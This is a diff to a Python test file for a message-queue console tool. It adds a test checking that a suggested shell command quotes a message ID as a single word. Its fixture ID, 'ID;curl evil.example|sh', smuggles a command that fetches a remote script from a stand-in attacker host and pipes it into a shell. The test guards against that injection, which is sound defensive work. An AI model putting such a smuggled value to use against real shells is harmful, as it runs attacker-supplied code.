@@ -12,10 +12,11 @@ from orderlymq_console.collector import Reading
 from orderlymq_console.models import Figure
 from orderlymq_console.pages.blocked import Parts
 from orderlymq_console.pages.bodies import SHOWN_MAX, show
+from orderlymq_console.pages.findings import of_watch
 from orderlymq_console.pages.groups import exact_lag
 from orderlymq_console.pages.pagination import PAGE_SIZE, cut, search
 from orderlymq_console.parameters import BadParameter, Parameters
-from orderlymq_console.status import StatusReport
+from orderlymq_console.status import StatusReport, WatchReport
 from orderlymq_console.web.renderer import isotime, moment, number, size, span
 from orderlymq_console.web.signin import local_target
 from orderlymq_protocol.body.messagequeue import MessageQueue
@@ -133,6 +134,16 @@ def test_a_sum_is_unknown_or_a_lower_bound_where_a_part_is_missing() -> None:
     assert Answers({"a": known}).total(lambda _: None, lambda _: "why") == Figure(unknown="why")
     assert add([Figure(value=1), Figure(unknown="x")]) == Figure(value=1, at_least=True)
     assert add([Figure(unknown="x")]) == Figure(unknown="x")
+
+
+def test_a_command_to_copy_holds_an_id_as_one_word() -> None:
+    """The producer of a message has chosen it."""
+    letter = {"group": "billing", "topic": "orders", "messageId": "ID;curl evil.example|sh"}
+    watch = {"examinedAt": 1, "blockedKnown": True, "failing": [letter]}
+
+    (trouble,) = of_watch(WatchReport.model_validate(watch))
+
+    assert trouble.todo == "orderlymq message show 'ID;curl evil.example|sh' --topic orders"
 
 
 def test_a_rate_takes_two_looks_and_begins_again_with_a_new_leader() -> None:
